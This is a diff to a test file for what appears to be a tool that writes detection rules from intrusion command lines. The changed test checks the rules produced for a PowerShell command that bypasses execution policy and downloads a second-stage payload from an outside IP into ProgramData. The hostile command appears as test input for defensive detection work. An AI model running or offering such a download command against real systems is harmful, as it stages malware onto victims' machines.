@@ -68,10 +68,12 @@ describe('command-line rules carry a value of the intrusion, not only generic fl
   });
 
   it('reads the command PowerShell is given on the line after -Command', () => {
-    const [rule] = processRules(
+    const rules = processRules(
       'powershell.exe -ep bypass -Command \n"Invoke-WebRequest -OutFile C:\\ProgramData\\quill.bin http://203.0.113.44/quill/stage2.php"',
     );
-    expect(valuesOf(must(rule).rule)).toContain('/quill/stage2.php');
+    // The download into ProgramData has its behaviour rule besides; the program's own rule keeps the URL.
+    expect(rules.map(({ rule }) => rule.title)).toContain('PowerShell Download Into A User-Writable Folder');
+    expect(rules.filter(({ rule }) => valuesOf(rule).includes('/quill/stage2.php'))).toHaveLength(1);
   });
 
   it('still writes behaviours that are the finding on their own, with no value of the intrusion', () => {
